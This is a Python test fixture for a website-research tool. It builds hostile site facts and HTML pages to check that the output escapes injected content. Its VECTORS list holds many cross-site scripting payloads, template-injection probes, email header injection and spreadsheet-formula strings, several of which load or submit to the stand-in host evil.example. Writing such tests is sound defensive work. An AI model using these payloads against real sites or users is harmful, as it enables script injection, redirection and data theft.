"""What a hostile company site, or a hostile customer, puts wherever words go. Each tries to run `alert` or to fetch."""

import itertools
from datetime import UTC, datetime
from html import escape

from tests.site import HOST
from wizard.domain.characters import all_legible
from wizard.domain.facts import (
    Button,
    ButtonSort,
    Contact,
    ContactSort,
    Evidence,
    FaqEntry,
    FormDetails,
    FormField,
    FoundPage,
    PageKind,
    Passage,
    Policy,
    PolicySort,
    Purpose,
    ReturnWindow,
    SiteFacts,
    SiteSearch,
    Status,
)
from wizard.domain.language import Message

VECTORS = (
    # an element where text goes
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0c>alert(1)</script\t>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<svg onload=alert(1)>",
    "<svg><script xlink:href=//evil.example/x></script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/x autoplay onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<body background=//evil.example/x>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=//evil.example/><button>Continue</button></form>",
    "<button formaction=javascript:alert(1) autofocus>Continue",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\tscript:alert(1)">x</a>',
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Set-Cookie content='x=1'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=image href=//evil.example/x.png>",
    "<style>@import'//evil.example/x'</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<template><script>alert(1)</script></template>",
    "<custom-element onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>",
    # out of where it stands
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    "` onfocus=alert(1) autofocus x=`",
    " onfocus=alert(1) autofocus x=",
    "</textarea><svg onload=alert(1)>",
    "</title><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "</noscript><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    # read twice, or put together anew
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=alert(1)>'>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x one\x00rror=alert(1)>",
    "<im\x00g src=x onerror=alert(1)>",
    # a template's, a format's, a header's, a formula's
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('alert(1)')()}}",
    "%(host)s %s %n {0.__class__} {host} $host",
    "x\r\nBcc: victim@evil.example\r\n\r\n<script>alert(1)</script>",
    "=?UTF-8?Q?=0A?=Bcc: victim@evil.example",
    '=HYPERLINK("//evil.example")',
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    # letters that hide or turn
    "\u202egnp.exe\u2066 \u2028\u2029 \ufeff \U000e0041",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "<sVg/oNloAd=alert(1)>",
)
_TOGETHER = 3  # in one word: the first that gets out is enough, and there are not so many pages to look at
MARKUP = tuple(
    " ".join(VECTORS[at :: (len(VECTORS) + _TOGETHER - 1) // _TOGETHER])
    for at in range((len(VECTORS) + 2) // _TOGETHER)
)
ADDRESSES = (
    "javascript:alert(1)//https://",
    "JaVaScRiPt:alert(1)",
    "\tjavascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://evil.example/" onmouseover="alert(1)',
    "blob:https://evil.example/1",
    "",
)


def hostile_facts(number: int) -> SiteFacts:
    """Facts in which every word is a vector and every address is one; `number` chooses where the round begins."""
    words = itertools.cycle(MARKUP[number % len(MARKUP) :] + MARKUP[: number % len(MARKUP)])
    urls = itertools.cycle(ADDRESSES[number % len(ADDRESSES) :] + ADDRESSES[: number % len(ADDRESSES)])

    def word() -> str:
        return next(words)

    def read() -> Evidence:
        return Evidence(next(urls), word(), datetime(2026, 11, 20, tzinfo=UTC), "0" * 64)

    def contact(sort: ContactSort, value: str) -> Contact:
        form = FormDetails(
            (FormField(word(), required=True, longest=500, message=True), FormField(word())), captcha=True
        )
        return Contact(sort, value, read(), word(), word(), 1.0, Purpose.COMPLAINTS, read(), read(), True, form)

    values = {ContactSort.PHONES: itertools.repeat("+4586123456"), **dict.fromkeys(BY_ADDRESS, urls)}
    facts = SiteFacts(
        url=next(urls),
        host=HOST,
        status=Status.PARTIAL,
        fetched_at=read().fetched_at,
        problems=(Message("There is no site at %(host)s. Check the spelling.", {"host": word()}),),
        language="en",
        country="DK",
        company=word(),
        pages={kind: (FoundPage(kind, next(urls), word(), 1.0),) for kind in PageKind},
        contacts={sort: tuple(contact(sort, next(values.get(sort, words))) for _ in range(2)) for sort in ContactSort},
        return_window=ReturnWindow(30, read()),
        policies={sort: Policy(read(), 7, word()) for sort in PolicySort},
        buttons=tuple(Button(sort, next(urls), word(), read()) for sort in ButtonSort),
        faq=tuple(FaqEntry(f"My kettle leaks {word()}", word(), next(urls)) for _ in range(3)),
        passages=tuple(Passage(PageKind.RETURNS, word(), f"kettle leaks {word()}", next(urls)) for _ in range(2)),
        search=SiteSearch(f"{next(urls)}{{query}}"),
    )
    return all_legible(facts)  # as research leaves them


BY_ADDRESS = (ContactSort.FORMS, ContactSort.CHAT, ContactSort.MESSENGERS, ContactSort.SOCIAL)


def hostile_pages() -> dict[str, str]:
    """A site whose pages say every vector as text, in every place that research reads, and as markup besides."""
    texts = [escape(vector) for vector in VECTORS]

    def each(form: str) -> str:
        return "".join(form.format(text=text) for text in texts)

    links = "".join(f'<a href="{path}">{name}</a>' for path, name in _LINKS)
    head = f"<!doctype html><html lang='en'><meta charset=utf-8><title>{{title}} {texts[0]}</title><nav>{links}</nav>"
    named = "<p>{text} <a href='mailto:a{n}@kjaerby-cykler.dk'>{text}</a> Phone {text}: +45 86 12 34 {n:02}</p>"
    bodies = {
        "/": "<h1>Kjærby Cykler</h1>" + each("<p>{text}</p>"),
        "/faq": "<h1>FAQ</h1>" + each("<h2>My kettle leaks {text}?</h2><p>Then {text} helps.</p>"),
        "/returns": "<h1>Returns</h1>" + each("<h2>{text}</h2><p>You can return goods within 30 days, {text}.</p>"),
        "/contact": "<h1>Contact</h1>"
        + "".join(named.format(text=text, n=n) for n, text in enumerate(texts))
        + "<form aria-label='Contact'>"
        + each("<label>{text} <input name='x'></label>")
        + "<input type=email><textarea></textarea></form>",
    }
    return {path: head.format(title=path) + body + " ".join(VECTORS) for path, body in bodies.items()}


_LINKS = (("/faq", "FAQ"), ("/returns", "Returns"), ("/contact", "Contact"))
